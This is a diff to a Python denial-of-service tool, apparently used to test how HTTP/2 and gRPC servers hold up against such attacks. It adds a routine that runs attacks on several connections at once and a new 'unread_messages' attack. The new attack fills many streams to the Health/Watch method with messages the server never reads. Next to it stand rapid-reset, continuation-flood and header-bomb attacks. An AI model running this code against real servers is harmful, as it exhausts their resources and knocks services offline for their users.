@@ -9,6 +9,7 @@ SOURCE, and prints what it has done as one JSON object.
 """
 
 import collections
+import concurrent.futures
 import contextlib
 import json
 import struct
@@ -54,6 +55,13 @@ class Attacker:
             except OSError:
                 self.counts["closed by the server"] += 1
                 time.sleep(PAUSE_SECONDS)
+
+    def repeat_at_once(self, number, abuse):
+        """Does the same on a number of connections at the same time."""
+        with concurrent.futures.ThreadPoolExecutor(number) as pool:
+            for done in [pool.submit(self.repeat, abuse)
+                         for _ in range(number)]:
+                done.result()
 
     def flood(self, connection, make_frames):
         """Sends what `make_frames(number)` returns, again and again."""
@@ -138,16 +146,30 @@ def header_bomb(attacker):
 def half_sent_messages(attacker):
     """Messages of 15 MiB that lack their last byte."""
     body = h2.grpc_message(bytes(MESSAGE_BYTES))[:-1]
-    connections = []
-    with contextlib.suppress(OSError):
-        for _ in range(4):
-            connection = attacker.connect()
-            connections.append(connection)
-            for stream in range(1, 33, 2):
-                connection.open_stream(stream, h2.call_fields("Tokenize"))
-                attacker.counts["bytes"] += connection.send_data(
-                    stream, body, min(attacker.until, time.monotonic() + 1))
-    attacker.hold(connections)
+
+    def abuse(connection):
+        for stream in range(1, 33, 2):
+            connection.open_stream(stream, h2.call_fields("Tokenize"))
+            attacker.counts["bytes"] += connection.send_data(
+                stream, body, min(attacker.until, time.monotonic() + 1))
+        connection.wait(attacker.until - time.monotonic())
+    attacker.repeat_at_once(4, abuse)
+
+
+def unread_messages(attacker):
+    """Complete messages on streams of which the server reads only the first
+    one, as many as it grants."""
+    messages = 4 * h2.grpc_message(bytes(1 << 20))
+
+    def abuse(connection):
+        for stream in range(1, 129, 2):
+            connection.open_stream(
+                stream, h2.call_fields("/grpc.health.v1.Health/Watch"))
+            attacker.counts["bytes"] += connection.send_data(
+                stream, h2.grpc_message(b"") + messages,
+                min(attacker.until, time.monotonic() + 0.05))
+        connection.wait(attacker.until - time.monotonic())
+    attacker.repeat_at_once(4, abuse)
 
 
 def streams_without_messages(attacker):
@@ -240,7 +262,7 @@ def calls(attacker):
 
 ATTACKS = {attack.__name__: attack for attack in (
     rapid_reset, continuation_flood, endless_integers, header_bomb,
-    half_sent_messages, streams_without_messages, unread_answers,
+    half_sent_messages, unread_messages, streams_without_messages, unread_answers,
     idle_connections, half_sent_headers, control_frames, calls)}
 
 
